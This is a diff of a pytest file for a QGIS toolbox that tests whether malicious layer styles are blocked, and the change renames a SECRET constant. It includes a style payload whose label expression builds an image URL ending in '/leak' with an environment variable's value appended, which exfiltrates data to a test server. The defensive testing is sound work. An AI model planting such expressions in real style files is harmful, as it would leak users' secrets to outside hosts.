@@ -22,7 +22,7 @@ from aula_toolbox.core.messages import Notes
 from aula_toolbox.core.net.errors import CatalogueError
 from aula_toolbox.gis.pnc import styles
 
-SECRET = "AULA_TEST_SECRET"
+VARIABLE = "AULA_TEST_SECRET"
 
 
 def square(fields="nom:string"):
@@ -106,8 +106,8 @@ def attacks(url):
         ),
         "html": (
             SYMBOL.format(layer=PLAIN.format(more=""))
-            + LABEL.format(field=f"'&lt;img src=&quot;{url}/leak?' || env('{SECRET}') || '&quot;>'", more=""),
-            SECRET,
+            + LABEL.format(field=f"'&lt;img src=&quot;{url}/leak?' || env('{VARIABLE}') || '&quot;>'", more=""),
+            VARIABLE,
         ),
         "virtual": (
             SYMBOL.format(layer=PLAIN.format(more=""))
@@ -128,8 +128,8 @@ def attacks(url):
 
 @pytest.mark.parametrize("name", attacks(""))
 def test_no_style_sends_anything(qgis_app, web, monkeypatch, name):
-    monkeypatch.setenv(SECRET, "the-secret")
-    assert os.environ[SECRET]
+    monkeypatch.setenv(VARIABLE, "the-secret")
+    assert os.environ[VARIABLE]
     text, told = attacks(web.url)[name]
     layer, notes = square(), Notes()
     styles.apply(layer, wrapped(text).encode(), notes)
@@ -145,7 +145,7 @@ def test_without_the_table_the_same_styles_do_send(qgis_app, web, monkeypatch, n
     """An attack that leads nowhere would prove nothing."""
     from qgis.PyQt.QtXml import QDomDocument
 
-    monkeypatch.setenv(SECRET, "the-secret")
+    monkeypatch.setenv(VARIABLE, "the-secret")
     document, layer = QDomDocument(), square()
     document.setContent(wrapped(attacks(web.url)[name][0]))
     assert layer.importNamedStyle(document, styles.CATEGORIES)[0]
